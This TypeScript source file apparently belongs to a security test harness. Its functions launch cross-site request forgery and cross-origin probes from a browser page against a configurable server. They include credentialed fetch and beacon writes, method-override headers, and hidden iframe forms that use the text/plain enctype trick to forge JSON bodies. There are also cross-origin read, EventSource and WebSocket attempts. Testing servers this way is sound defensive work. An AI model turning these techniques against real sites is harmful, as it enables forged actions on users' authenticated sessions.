import type { Target } from './targets.ts';

/** What a page attacks: runs in the browser, so each attack is one function that needs nothing around it. */
interface Attack<TTarget> {
  readonly url: string;
  readonly targets: readonly TTarget[];
}

/** Sends every write with `fetch` and a beacon, in all the ways that the browser allows. Returns the answers that could be read. */
export async function attackWithFetch({ url, targets }: Attack<Target>): Promise<string[]> {
  const readable: string[] = [];
  const send = async (target: Target, init: RequestInit) => {
    const response = await fetch(url + target.url, { credentials: 'include', ...init }).catch(
      () => null,
    );
    if (response && response.type !== 'opaque') {
      readable.push(`${init.method} ${target.url}: ${response.status}`);
    }
  };
  const overrides = { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' };
  for (const target of targets) {
    const json = JSON.stringify(target.body);
    const typed = (type: string) => ({ 'content-type': type });
    const form = new FormData();
    for (const [name, value] of Object.entries(target.body)) form.append(name, String(value));
    form.append('image', new Blob(['x'], { type: 'image/png' }), 'x.png');
    const text = typed('text/plain');
    navigator.sendBeacon(url + target.url, new Blob([json], { type: 'text/plain' }));
    await Promise.all([
      send(target, { method: target.method, headers: typed('application/json'), body: json }),
      send(target, { method: target.method }),
      send(target, { method: 'POST', headers: text, body: json }),
      send(target, { method: 'POST', headers: { ...text, ...overrides }, body: json }),
      send(target, { method: 'POST', mode: 'no-cors', headers: text, body: json }),
      send(target, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ json }) }),
      send(target, { method: 'POST', mode: 'no-cors', body: form }),
      send(target, { method: 'POST', mode: 'no-cors', headers: overrides }),
    ]);
  }
  return readable;
}

/** Sends every write as a form of each kind, into frames. Returns the frames that could be read. */
export async function attackWithForms({ url, targets }: Attack<Target>): Promise<string[]> {
  const readable: string[] = [];
  const submit = (target: Target, enctype: string) =>
    new Promise<void>((resolve) => {
      const frame = document.createElement('iframe');
      const form = document.createElement('form');
      frame.name = crypto.randomUUID?.() ?? String(Math.random());
      Object.assign(form, { action: url + target.url, method: 'post', enctype });
      form.target = frame.name;
      const field = document.createElement('input');
      // As text/plain a name and a value are joined by `=`: together they are the JSON.
      const json = JSON.stringify({ ...target.body, _method: target.method, rest: '' });
      Object.assign(field, { name: json.slice(0, -2), value: json.slice(-2) });
      form.append(field);
      document.body.append(frame, form);
      const leave = () => {
        const text = frame.contentDocument?.body?.textContent;
        if (text) readable.push(`${target.url}: ${text}`);
        if (frame.contentDocument?.URL === 'about:blank') return;
        frame.remove();
        resolve();
      };
      frame.onload = leave;
      setTimeout(resolve, 5_000);
      form.submit();
    });
  for (const target of targets) {
    const kinds = ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data'];
    await Promise.all(kinds.map((enctype) => submit(target, enctype)));
  }
  return readable;
}

/** Asks for every address as an image, a script, a style sheet and with `fetch`. Returns what could be loaded or read. */
export async function attackWithReads({ url, targets }: Attack<string>): Promise<string[]> {
  const loaded: string[] = [];
  const load = (element: HTMLElement, attributes: object) =>
    new Promise<void>((resolve) => {
      const { tagName } = element;
      element.onload = () => {
        loaded.push(`${tagName} ${JSON.stringify(attributes)}`);
        resolve();
      };
      element.onerror = () => resolve();
      setTimeout(resolve, 2_000);
      Object.assign(element, attributes);
      document.body.append(element);
    });
  const ask = async (address: string, mode: RequestMode) => {
    const signal = AbortSignal.timeout(2_000);
    const init = { mode, credentials: 'include', signal } as const;
    const response = await fetch(address, init).catch(() => null);
    if (response && response.type !== 'opaque') loaded.push(`${mode} ${address}`);
  };
  for (const target of targets) {
    const address = url + target;
    await Promise.all([
      load(document.createElement('img'), { src: address }),
      load(document.createElement('script'), { src: address }),
      load(document.createElement('link'), { rel: 'stylesheet', href: address }),
      ask(address, 'cors'),
      ask(address, 'no-cors'),
    ]);
  }
  return loaded;
}

/** Tries to hold a line to the server. Returns what was opened. */
export async function attackWithStreams({ url, targets }: Attack<string>): Promise<string[]> {
  const open = (target: string, create: () => EventSource | WebSocket) =>
    new Promise<string[]>((resolve) => {
      const line = create();
      line.onopen = () => resolve([target]);
      line.onerror = () => {
        line.close();
        resolve([]);
      };
      setTimeout(() => resolve([]), 5_000);
    });
  const attempts = targets.flatMap((target) => [
    open(target, () => new EventSource(url + target, { withCredentials: true })),
    open(target, () => new WebSocket(url.replace('http', 'ws') + target)),
  ]);
  return (await Promise.all(attempts)).flat();
}
